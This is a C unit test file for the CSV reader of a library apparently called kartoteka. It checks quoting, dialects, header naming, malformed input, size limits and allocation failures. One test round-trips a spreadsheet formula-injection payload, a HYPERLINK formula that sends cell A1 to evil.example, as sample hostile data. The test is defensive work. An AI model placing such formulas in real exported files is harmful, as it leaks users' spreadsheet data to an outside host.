/* The CSV reader through the convenience layer: dialects, quoting, line numbers, header names,
 * malformed input, limits, the registry. Encodings: test_read_encoding.c. Fixtures are
 * generated in a temp dir. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "kartoteka/alloc.h"
#include "kartoteka/csv_write.h"
#include "kartoteka/read.h"
#include "read_fixture.h"
#include "tmp_dir.h"

static void expect_end(kt_reader *rd)
{
    const kt_read_row *row;
    kt_error err;
    assert_int_equal(kt_reader_next(rd, &row, &err), KT_NOTFOUND);
    assert_int_equal(kt_reader_next(rd, &row, &err), KT_NOTFOUND);
    assert_null(row);
}

static void quoting_and_lines(void **state)
{
    const char *p = kt_test_put_text("q.csv", "name,note\r\nAla,\"multi\r\nline, with comma\"\r\n"
                                              "Ola,\"x\"\"y\"\r\n\r\nEla, spaced \r\nUla,\"\"\r\n");
    kt_reader *rd = kt_test_open("csv", p, NULL);
    const kt_read_row *r = kt_test_next(rd);
    assert_int_equal(r->count, 2);
    assert_string_equal(r->keys[0], "name");
    assert_string_equal(r->keys[1], "note");
    assert_string_equal(r->values[1], "multi\r\nline, with comma");
    assert_int_equal(r->line, 2);
    assert_int_equal(r->record, 2);
    r = kt_test_next(rd);
    assert_string_equal(r->values[1], "x\"y");
    assert_int_equal(r->line, 4);
    assert_int_equal(r->record, 3);
    r = kt_test_next(rd);
    assert_string_equal(r->values[1], " spaced ");
    assert_int_equal(r->line, 6);
    r = kt_test_next(rd);
    assert_string_equal(r->values[1], "");
    assert_int_equal(r->line, 7);
    expect_end(rd);
    kt_reader_close(rd);
}

static void dialects(void **state)
{
    const char *p = kt_test_put_text("s.csv", "a;b;c\n1;\"2;x\";3\n");
    kt_reader *rd = kt_test_open("csv", p, NULL);
    const kt_read_row *r = kt_test_next(rd);
    assert_int_equal(r->count, 3);
    assert_string_equal(r->values[1], "2;x");
    kt_reader_close(rd);
    p = kt_test_put_text("t.tsv", "a\tb\n1,5\t2\n");
    rd = kt_test_open("csv", p, NULL);
    r = kt_test_next(rd);
    assert_string_equal(r->values[0], "1,5");
    assert_string_equal(r->values[1], "2");
    kt_reader_close(rd);
    kt_read_opts o = {.delimiter = ';'};
    p = kt_test_put_text("c.csv", "a,b;c\n1,2;3\n");
    rd = kt_test_open("csv", p, &o);
    r = kt_test_next(rd);
    assert_int_equal(r->count, 2);
    assert_string_equal(r->keys[0], "a,b");
    kt_reader_close(rd);
}

static void bom_and_header_names(void **state)
{
    const char *p = kt_test_put_text("h.csv", "\xEF\xBB\xBFid,, name ,name,id\n1,2,3,4,5,6\n7\n");
    kt_reader *rd = kt_test_open("csv", p, NULL);
    const kt_read_row *r = kt_test_next(rd);
    const char *want[] = {"id", "col2", "name", "name_2", "id_2", "col6"};
    assert_int_equal(r->count, 6);
    for (int i = 0; i < 6; i++)
        assert_string_equal(r->keys[i], want[i]);
    assert_int_equal(r->raw_count, 6);
    r = kt_test_next(rd);
    assert_string_equal(r->values[0], "7");
    assert_null(r->values[1]);
    assert_int_equal(r->raw_count, 1);
    size_t n;
    assert_non_null(kt_reader_header(rd, &n));
    assert_int_equal(n, 6);
    kt_reader_close(rd);
    kt_read_opts o = {.no_header = 1};
    rd = kt_test_open("csv", p, &o);
    r = kt_test_next(rd);
    assert_string_equal(r->keys[0], "col1");
    assert_string_equal(r->values[0], "id");
    assert_int_equal(r->line, 1);
    kt_reader_close(rd);
}

static void broken_quoting(void **state)
{
    kt_error err;
    const char *p = kt_test_put_text("bq.csv", "a,b\n1,2\n3,\"x\"y\n");
    assert_int_equal(kt_test_read_all("csv", p, NULL, &err), KT_INVALID);
    assert_non_null(strstr(err.message, "line 3"));
    kt_read_opts o = {.lenient = 1};
    assert_int_equal(kt_test_read_all("csv", p, &o, &err), KT_NOTFOUND);
    p = kt_test_put_text("open.csv", "a,b\n1,2\n3,\"never\nclosed\n4,5\n");
    assert_int_equal(kt_test_read_all("csv", p, NULL, &err), KT_INVALID);
    assert_non_null(strstr(err.message, "line 3"));
    assert_non_null(strstr(err.message, "never closed"));
}

static void limits(void **state)
{
    kt_error err;
    size_t n = 5000;
    char *s = malloc(n + 32);
    strcpy(s, "a,b\n1,\"");
    memset(s + 7, 'x', n);
    strcpy(s + 7 + n, "\"\n");
    const char *p = kt_test_put_text("big.csv", s);
    kt_read_opts o = {.max_cell = 1000};
    assert_int_equal(kt_test_read_all("csv", p, &o, &err), KT_LIMIT);
    assert_non_null(strstr(err.message, "max_cell"));
    assert_non_null(strstr(err.message, "line 2"));
    o.max_cell = 0;
    o.max_record = 2000;
    assert_int_equal(kt_test_read_all("csv", p, &o, &err), KT_LIMIT);
    assert_non_null(strstr(err.message, "max_record"));
    free(s);
    kt_read_opts f = {.max_fields = 10};
    p = kt_test_put_text("wide.csv", "a\n1,2,3,4,5,6,7,8,9,10,11,12\n");
    assert_int_equal(kt_test_read_all("csv", p, &f, &err), KT_LIMIT);
    assert_non_null(strstr(err.message, "max_fields"));
    /* A cell past the default 16 MiB with no line end: refused while it grows. */
    char path[512];
    snprintf(path, sizeof path, "%s/huge.csv", kt_test_dir);
    FILE *fp = fopen(path, "wb");
    fputs("a\n\"", fp);
    char block[65536];
    memset(block, 'y', sizeof block);
    for (int i = 0; i < 20 * 16; i++)
        fwrite(block, 1, sizeof block, fp);
    fclose(fp);
    assert_int_equal(kt_test_read_all("csv", path, NULL, &err), KT_LIMIT);
    assert_non_null(strstr(err.message, "16777216"));
}

static void hostile_note_round_trip(void **state)
{
    kt_buf note = KT_BUF_INIT, file = KT_BUF_INIT;
    kt_error err;
    assert_int_equal(
        kt_buf_puts(&note, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\r\n", &err), KT_OK);
    while (note.len < 70000)
        assert_int_equal(kt_buf_puts(&note, "Zażółć \"gęślą\" jaźń;\n,\t", &err), KT_OK);
    const char *head[] = {"id", "note"}, *row1[] = {"1", note.data}, *row2[] = {"2", "ok"};
    assert_int_equal(kt_csv_write_row(&file, head, 2, ',', 0, &err), KT_OK);
    assert_int_equal(kt_csv_write_row(&file, row1, 2, ',', 0, &err), KT_OK);
    assert_int_equal(kt_csv_write_row(&file, row2, 2, ',', 0, &err), KT_OK);
    long nl = 0;
    for (size_t i = 0; i < note.len; i++)
        nl += note.data[i] == '\n';
    const char *p = kt_test_put("note.csv", file.data, file.len);
    kt_reader *rd = kt_test_open("csv", p, NULL);
    const kt_read_row *r = kt_test_next(rd);
    assert_int_equal(strlen(r->values[1]), note.len);
    assert_memory_equal(r->values[1], note.data, note.len);
    r = kt_test_next(rd);
    assert_string_equal(r->values[1], "ok");
    assert_int_equal(r->line, 3 + nl);
    kt_reader_close(rd);
    kt_buf_free(&note);
    kt_buf_free(&file);
}

static void registry_and_sniffing(void **state)
{
    kt_ext *x = kt_ext_new();
    kt_error err;
    assert_int_equal(kt_read_register_builtin(x, &err), KT_OK);
    assert_int_equal(kt_read_register_builtin(x, &err), KT_EXISTS);
    const char *p = kt_test_put_text("data.tsv", "a\tb\n1\t2\n");
    kt_reader *rd = NULL;
    assert_int_equal(kt_reader_open(x, p, NULL, NULL, &rd, &err), KT_OK);
    assert_string_equal(kt_test_next(rd)->values[1], "2");
    kt_reader_close(rd);
    p = kt_test_put_text("noext", "[{\"a\": 1}]");
    assert_string_equal(kt_read_sniff(p), "json");
    assert_int_equal(kt_reader_open(x, p, NULL, NULL, &rd, &err), KT_OK);
    assert_string_equal(kt_test_next(rd)->values[0], "1");
    kt_reader_close(rd);
    assert_int_equal(kt_reader_open(x, p, "nosuch", NULL, &rd, &err), KT_NOTFOUND);
    assert_null(rd);
    kt_ext_free(x);
}

static void empty_file(void **state)
{
    const char *p = kt_test_put_text("empty.csv", "");
    kt_reader *rd = kt_test_open("csv", p, NULL);
    expect_end(rd);
    kt_reader_close(rd);
}

/* Every allocation failing in turn ends in an error, never a crash or a leak. */
static void allocation_failures(void **state)
{
    const char *p = kt_test_put_text("af.csv", "a,b\n1,\"x\ny\"\n3,4\n");
    for (unsigned long n = 1; n < 200; n++) {
        kt_error err;
        kt_alloc_fail_at(n);
        kt_status st = kt_test_read_all("csv", p, NULL, &err);
        kt_alloc_fail_at(0);
        if (st != KT_NOTFOUND && st != KT_NOMEM) print_error("%lu: %d %s\n", n, st, err.message);
        assert_true(st == KT_NOTFOUND || st == KT_NOMEM);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(quoting_and_lines),
        cmocka_unit_test(dialects),
        cmocka_unit_test(bom_and_header_names),
        cmocka_unit_test(broken_quoting),
        cmocka_unit_test(limits),
        cmocka_unit_test(hostile_note_round_trip),
        cmocka_unit_test(registry_and_sniffing),
        cmocka_unit_test(empty_file),
        cmocka_unit_test(allocation_failures),
    };
    return cmocka_run_group_tests(tests, kt_test_dir_setup, kt_test_dir_teardown);
}
